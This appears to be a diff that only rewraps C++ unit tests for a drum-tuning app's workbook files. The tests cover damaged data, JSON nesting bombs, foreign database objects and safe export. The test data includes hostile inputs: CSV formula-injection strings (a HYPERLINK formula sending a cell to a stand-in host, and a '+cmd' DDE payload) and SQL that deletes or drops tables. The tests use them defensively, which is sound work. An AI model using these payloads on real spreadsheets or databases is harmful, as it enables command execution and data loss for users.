@@ -78,19 +78,23 @@ TEST_F(Kept, AStateThatCouldNotBeReadIsNotWritten) {
 TEST_F(Kept, DamagedStepsStayInTheFileWhenOneGoesOn) {
     auto book = demo();
     const qint64 id = begun(*book, 12).id;
-    runSql(path(), QStringLiteral("UPDATE steps SET state = x'427a01ff' WHERE session_id = %1 AND position >= 9").arg(id));
+    runSql(path(),
+           QStringLiteral("UPDATE steps SET state = x'427a01ff' WHERE session_id = %1 AND position >= 9")
+               .arg(id));
     auto stored = book->loadSession(id).value();
     ASSERT_EQ(stored.position, 8);
     ASSERT_TRUE(book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen));
     EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE part = 'step'")).toInt(), 4);
-    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE value = x'427a01ff'")).toInt(), 4);
+    EXPECT_EQ(
+        runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE value = x'427a01ff'")).toInt(), 4);
     // What the user undid is dropped as ever.
     ASSERT_TRUE(book->moveTo(stored, 3));
     ASSERT_TRUE(book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen));
     EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged")).toInt(), 4);
     book.reset();
     ASSERT_TRUE(rescueWorkbook(path(), path(QStringLiteral("r.bombo"))));
-    EXPECT_EQ(runSql(path(QStringLiteral("r.bombo")), QStringLiteral("SELECT COUNT(*) FROM damaged")).toInt(), 4);
+    EXPECT_EQ(runSql(path(QStringLiteral("r.bombo")), QStringLiteral("SELECT COUNT(*) FROM damaged")).toInt(),
+              4);
 }
 
 TEST_F(Kept, OneBadValueOfTheRigCostsOnlyItself) {
@@ -101,8 +105,9 @@ TEST_F(Kept, OneBadValueOfTheRigCostsOnlyItself) {
         full.earResults.push_back({1000 + i, "Ada", "beats", 3.0, 0.1, 20});
     full.leftHanded = true;
     ASSERT_TRUE(book->keepRig(rig, "plover", full));
-    runSql(path(), QStringLiteral("UPDATE rig SET value = json_set(value, '$.earResults[1].threshold', NULL) WHERE "
-                                  "drum_id = ''"));
+    runSql(path(),
+           QStringLiteral("UPDATE rig SET value = json_set(value, '$.earResults[1].threshold', NULL) WHERE "
+                          "drum_id = ''"));
     auto read = book->rig("plover", 0).value();
     EXPECT_EQ(read.rig.earResults.size(), 2U);
     EXPECT_TRUE(read.rig.leftHanded);
@@ -136,15 +141,16 @@ TEST_F(Kept, ADamagedSetupCostsOnlyItselfInExportAndImport) {
                                     {0, QLatin1String(at), "plover", "chase", summary, true}));
     const std::size_t all = book->entries({})->size();
     for (const char* damage : {"x'427a01ff'", "'{\"plain'"}) { // packed, and as it was kept before version 5
-        runSql(path(), QStringLiteral("UPDATE log_entries SET session_state = %1 WHERE saved_at LIKE '2026-11-20T19%'")
+        runSql(path(), QStringLiteral(
+                           "UPDATE log_entries SET session_state = %1 WHERE saved_at LIKE '2026-11-20T19%'")
                            .arg(QLatin1String(damage)));
         const QString file = path(QStringLiteral("out.json"));
         const auto out = exportTo(file, *book, std::nullopt, Exported::ByEnding, Overwrite::IfAsked);
         ASSERT_TRUE(out) << out.fault().text.toStdString();
         ASSERT_EQ(out->leftOut.size(), 1) << damage;
         EXPECT_FALSE(Json::parse(bytesOf(file).toStdString()).is_discarded());
-        const auto readings =
-            exportTo(path(QStringLiteral("r.csv")), *book, std::nullopt, Exported::Readings, Overwrite::IfAsked);
+        const auto readings = exportTo(path(QStringLiteral("r.csv")), *book, std::nullopt, Exported::Readings,
+                                       Overwrite::IfAsked);
         ASSERT_TRUE(readings);
         EXPECT_EQ(readings->leftOut.size(), 1);
         auto other = Workbook::create(path(QStringLiteral("%1.bombo").arg(qstrlen(damage)))).value();
@@ -191,7 +197,8 @@ TEST_F(Kept, AnExportNeverWritesOverAWorkbookOrWhatNobodyNamed) {
     for (const QString& file : {path(), link, copy, path() + QStringLiteral("-wal")})
         EXPECT_FALSE(exportTo(file, *book, std::nullopt, Exported::ByEnding, Overwrite::IfAsked))
             << file.toStdString();
-    EXPECT_FALSE(exportTo(path(QStringLiteral("other.bombo")), *book, std::nullopt)); // no ending of an export
+    EXPECT_FALSE(
+        exportTo(path(QStringLiteral("other.bombo")), *book, std::nullopt)); // no ending of an export
     EXPECT_FALSE(exportTo(path(QStringLiteral("note.json")), *book, std::nullopt));
     EXPECT_EQ(bytesOf(path(QStringLiteral("note.json"))), "mine");
     EXPECT_EQ(bytesOf(path()), before);
@@ -296,8 +303,10 @@ TEST_F(Kept, ANewHeadOfAnotherProgramIsNotWrittenOver) {
 TEST_F(Kept, DeepJsonIsRefusedEverywhereAndCostsNothing) {
     const std::string deep = std::string(100000, '[') + std::string(100000, ']');
     EXPECT_TRUE(nestsTooDeeply(deep));
-    EXPECT_FALSE(nestsTooDeeply("{\"a\":\"" + std::string(1000, '[') + "\\\"" + std::string(1000, '{') + "\"}"));
-    EXPECT_FALSE(parcelFromText("{\"format\":\"bombo-parcel\",\"version\":1,\"entries\":[{\"setup\":" + deep + "}]}"));
+    EXPECT_FALSE(
+        nestsTooDeeply("{\"a\":\"" + std::string(1000, '[') + "\\\"" + std::string(1000, '{') + "\"}"));
+    EXPECT_FALSE(
+        parcelFromText("{\"format\":\"bombo-parcel\",\"version\":1,\"entries\":[{\"setup\":" + deep + "}]}"));
     EXPECT_FALSE(workFromText(deep));
     EXPECT_FALSE(setupFromText("{\"x\":" + deep + "}"));
     EXPECT_FALSE(contextFromText(deep));
@@ -307,9 +316,9 @@ TEST_F(Kept, DeepJsonIsRefusedEverywhereAndCostsNothing) {
     auto book = demo();
     for (const char* sql : {"UPDATE log_entries SET summary = ?", "UPDATE rig SET value = ?",
                             "UPDATE drums SET description = ? WHERE id = 'wren'"})
-        runSql(path(), QString::fromLatin1(sql).replace(QLatin1Char('?'), QLatin1Char('\'') +
-                                                                             QString::fromStdString(deep) +
-                                                                             QLatin1Char('\'')));
+        runSql(path(),
+               QString::fromLatin1(sql).replace(
+                   QLatin1Char('?'), QLatin1Char('\'') + QString::fromStdString(deep) + QLatin1Char('\'')));
     EXPECT_EQ(book->drums()->size(), 2U);
     EXPECT_TRUE(book->entries({}));
     EXPECT_TRUE(book->parcel({}));
@@ -317,12 +326,13 @@ TEST_F(Kept, DeepJsonIsRefusedEverywhereAndCostsNothing) {
 }
 
 TEST_F(Kept, WhatNoBomboMakesIsNotOpened) {
-    for (const char* sql : {"CREATE TRIGGER t AFTER INSERT ON log_entries BEGIN DELETE FROM log_entries; END",
-                            "CREATE VIEW v AS SELECT 1",
-                            "ALTER TABLE drums RENAME TO d0; CREATE VIEW drums AS WITH RECURSIVE c(x) AS (SELECT 1 "
-                            "UNION ALL SELECT x + 1 FROM c) SELECT x AS id FROM c",
-                            "CREATE TABLE extra(a, b AS (a * 2))", "CREATE INDEX i ON drums(length(description))",
-                            "CREATE VIRTUAL TABLE w USING fts5(a)", "DROP TABLE recordings"}) {
+    for (const char* sql :
+         {"CREATE TRIGGER t AFTER INSERT ON log_entries BEGIN DELETE FROM log_entries; END",
+          "CREATE VIEW v AS SELECT 1",
+          "ALTER TABLE drums RENAME TO d0; CREATE VIEW drums AS WITH RECURSIVE c(x) AS (SELECT 1 "
+          "UNION ALL SELECT x + 1 FROM c) SELECT x AS id FROM c",
+          "CREATE TABLE extra(a, b AS (a * 2))", "CREATE INDEX i ON drums(length(description))",
+          "CREATE VIRTUAL TABLE w USING fts5(a)", "DROP TABLE recordings"}) {
         const QString file = path(QStringLiteral("x.bombo"));
         QFile::remove(file);
         ASSERT_TRUE(createDemoWorkbook(file));
@@ -330,7 +340,8 @@ TEST_F(Kept, WhatNoBomboMakesIsNotOpened) {
             runSql(file, one.startsWith(QStringLiteral("REATE")) ? QLatin1Char('C') + one : one);
         const auto book = Workbook::open(file);
         ASSERT_FALSE(book) << sql;
-        EXPECT_TRUE(book.fault().fault == WorkbookFault::Foreign || book.fault().fault == WorkbookFault::Damaged)
+        EXPECT_TRUE(book.fault().fault == WorkbookFault::Foreign ||
+                    book.fault().fault == WorkbookFault::Damaged)
             << sql;
         const QString out = path(QStringLiteral("out-of-x.bombo"));
         QFile::remove(out);
@@ -356,8 +367,9 @@ TEST_F(Kept, PackedBombsAreDamageAndAreNotLookedAtForLong) {
 TEST_F(Kept, FormulasAreWordsInASpreadsheetAndComeBackUnchanged) {
     auto book = demo();
     Entry entry = book->entries({})->front();
-    for (const char* text : {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "@SUM(1,1)", "+cmd|'/C calc'!A0", "-1+1", "=1+1",
-                             "\t=1", "'=quoted by hand", "'tis", "plain, with comma", " leading blank"}) {
+    for (const char* text :
+         {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "@SUM(1,1)", "+cmd|'/C calc'!A0", "-1+1", "=1+1", "\t=1",
+          "'=quoted by hand", "'tis", "plain, with comma", " leading blank"}) {
         entry.figures.words.note = text;
         entry.figures.words.tags = {text[0] == '\t' || text[0] == ' ' ? "=t" : text, "b"};
         const QString csv = entriesCsv({entry});
@@ -432,9 +444,9 @@ TEST_F(Kept, ADrumThatStandsInEntriesAloneIsRescued) {
         auto book = demo();
         auto stored = book->startSession(testing::fresh(), {}, kThen).value();
         const Session done = testing::fullSession();
-        ASSERT_TRUE(book->saveSetup(stored, QStringLiteral("mark_saved"), done,
-                                    {0, kThen, "plover", "chase",
-                                     QString::fromStdString(setupSummary(done).dump()), true}));
+        ASSERT_TRUE(book->saveSetup(
+            stored, QStringLiteral("mark_saved"), done,
+            {0, kThen, "plover", "chase", QString::fromStdString(setupSummary(done).dump()), true}));
     }
     runSql(path(), QStringLiteral("DELETE FROM sessions"));
     runSql(path(), QStringLiteral("UPDATE drums SET description = 'no drum' WHERE id = 'plover'"));
@@ -460,12 +472,13 @@ TEST_F(Kept, ATableOfAHundredThousandRowsCanBeGivenUp) {
     auto book = demo();
     QByteArray csv = "saved_at,drum,tone,batter_hz,note\n";
     for (int i = 0; i < 100000; ++i)
-        csv += "2020-01-01T00:00:" + QByteArray::number(i % 60).rightJustified(2, '0') + "Z,Plover,Chase,300," +
-               QByteArray::number(i) + '\n';
+        csv += "2020-01-01T00:00:" + QByteArray::number(i % 60).rightJustified(2, '0') +
+               "Z,Plover,Chase,300," + QByteArray::number(i) + '\n';
     write(path(QStringLiteral("big.csv")), csv);
     const Parcel here = book->parcel(std::nullopt, Setups::LeftOut).value();
     int asked = 0;
-    const auto given = importPlanOf(path(QStringLiteral("big.csv")), here, [&](double) { return ++asked < 5; });
+    const auto given =
+        importPlanOf(path(QStringLiteral("big.csv")), here, [&](double) { return ++asked < 5; });
     ASSERT_FALSE(given);
     EXPECT_TRUE(given.fault().isGivenUp);
     EXPECT_EQ(asked, 5);
@@ -499,7 +512,8 @@ TEST_F(Kept, NamesOfATableAreNeverGuessed) {
                                          "2026-10-12T18:00:00Z,bbbb,own-crack\n");
     const auto plan = importPlanOf(path(QStringLiteral("t.csv")), *book).value();
     ASSERT_EQ(plan.refused.size(), 1);
-    EXPECT_TRUE(plan.refused.front().contains(QStringLiteral("aaaa, bbbb"))) << plan.refused.front().toStdString();
+    EXPECT_TRUE(plan.refused.front().contains(QStringLiteral("aaaa, bbbb")))
+        << plan.refused.front().toStdString();
     ASSERT_EQ(plan.adds.entries.size(), 1U);
     EXPECT_EQ(plan.adds.entries[0].entry.drumId, "bbbb");
     EXPECT_EQ(plan.adds.entries[0].entry.toneId, "own-crack");
